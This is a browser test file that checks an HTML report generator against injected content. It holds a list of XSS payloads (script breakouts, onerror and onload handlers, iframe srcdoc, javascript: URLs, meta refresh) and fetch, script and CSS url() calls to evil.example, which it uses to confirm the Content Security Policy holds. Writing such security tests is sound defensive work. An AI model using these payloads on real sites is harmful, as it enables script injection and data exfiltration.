/** Hostile words in the page: nothing runs, nothing loads, nothing is gone to, in any view. */

import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Report } from '../../src/model.ts';
import { html } from '../../src/report/html/index.ts';
import { attacks, hostile } from '../report/hostile.ts';
import { type Bench, bench, folderOf, go, pageOf, views } from './browser.ts';

const style = { color: false, width: 80, groupBy: 'utterance', detail: 'brief' } as const;
const run = 'window.ran=1;alert(1)';
const harmful: Readonly<Record<string, string>> = {
  ...attacks,
  'an end of the data': `</script><script>${run}</script>`,
  'a comment in the data': `<!--<script>${run}//`,
  'an image': `<img src=x onerror="${run}"><svg onload="${run}"></svg>`,
  'a frame': `<iframe srcdoc="<script>parent.${run}</script>"></iframe><object data="javascript:${run}"></object>`,
  'a way off': '<meta http-equiv="refresh" content="0;url=http://evil.example"><base href="http://evil.example/">',
  'a script as an address': `javascript:${run}`,
  'a style': '<style>*{background:url(http://evil.example/x)}</style>" style="background:url(http://evil.example/y)',
  'a name of every object': '__proto__',
  'a template': `\${${run}} {{${run}}}`,
};

let browser: Bench;
beforeAll(async () => {
  browser = await bench();
});
afterAll(() => browser.close());

/** Opens what is folded. @returns What stands in the page that could act, or lead out of it. Runs there. */
function strange(): string[] {
  for (const folded of document.querySelectorAll('details')) folded.open = true;
  const acting = document.querySelectorAll('main :is(script, style, img, iframe, object, embed, link, meta, base)');
  const attributes = [...document.querySelectorAll('main *')].flatMap((element) => [...element.attributes]);
  return [
    ...[...acting].map(({ tagName }) => `made a ${tagName}`),
    ...attributes.flatMap(({ name, value }) =>
      /^(on|src|action|formaction|xlink|ping)/.test(name) || (name === 'href' && !value.startsWith('#'))
        ? [`gave ${name}=${value}`]
        : [],
    ),
  ];
}

/** Goes everywhere in a page, and opens all that is folded. */
async function seen(written: string, report: Report): Promise<readonly string[]> {
  const { page, deeds } = await browser.open(written);
  const ids = [
    ...report.utterances.map(({ id }) => `quote/${encodeURIComponent(id)}`),
    ...report.articles.map(({ id }) => `article/${encodeURIComponent(id)}`),
  ];
  const made: string[] = [];
  for (const view of [...views, ...ids]) {
    await go(page, `#/${view}`);
    made.push(...(await page.evaluate(strange)));
  }
  const ran = await page.evaluate(() => 'ran' in window);
  await page.context().close();
  return [...deeds, ...made, ...(ran ? ['ran'] : [])];
}

test.each(Object.entries(harmful))('%s', async (_, words) => {
  const report = hostile(words);
  const texts = { ...report, articles: report.articles.map((article) => ({ ...article, text: words.repeat(30) })) };
  expect(await seen(html(texts, style), texts)).toEqual([]);
});

test('articles that are nothing else, read from files', async () => {
  const lines = Object.values(harmful)
    .map((words) => words.replaceAll('\0', ''))
    .join('\n\n');
  const tag = `<img src=x onerror="${run}">`;
  const files = Object.entries(folderOf('fixtures/cases/an-outlet-turns-hardly-anyone-into-no-one')).map(
    ([path, bytes]) => [path, `${new TextDecoder().decode(bytes).replaceAll('crane', `crane ${tag}`)}\n\n${lines}\n`],
  );
  const { html: written, json } = await pageOf(Object.fromEntries(files));
  const report: Report = JSON.parse(json);
  expect(report.quotes.length).toBeGreaterThan(0);
  expect(await seen(written, report)).toEqual([]);
});

describe('the policy holds, should a line of ours ever be wrong', () => {
  test.each([
    {
      what: 'a script made of text',
      act: "document.body.append(Object.assign(document.createElement('script'), { text: 'window.ran=1' }))",
    },
    { what: 'markup made of text', act: 'document.body.innerHTML = \'<img src=x onerror="window.ran=1">\'' },
    {
      what: 'a script by address',
      act: "document.body.append(Object.assign(document.createElement('script'), { src: 'http://evil.example/x.js' }))",
    },
    {
      what: 'an attribute that listens',
      act: "document.body.setAttribute('onclick', 'window.ran=1'); document.body.click()",
    },
    {
      what: 'a picture',
      act: "document.body.append(Object.assign(document.createElement('img'), { src: 'http://evil.example/x.png' }))",
    },
    { what: 'a message', act: "fetch('http://evil.example/').catch(() => {})" },
    {
      what: 'a style made of text',
      act: "document.body.setAttribute('style', 'background: url(http://evil.example/y)')",
    },
  ])('against $what', async ({ act }) => {
    const { page, deeds } = await browser.open(html(hostile('x'), style));
    const isThrown = await page.evaluate(act).then(
      () => false,
      () => true,
    );
    await page.waitForTimeout(100);
    expect(isThrown || deeds.some((deed) => /Content Security Policy|TrustedScript/.test(deed))).toBe(true);
    expect(deeds.filter((deed) => deed.startsWith('fetched'))).toEqual([]);
    expect(await page.evaluate(() => 'ran' in window)).toBe(false);
  });
});
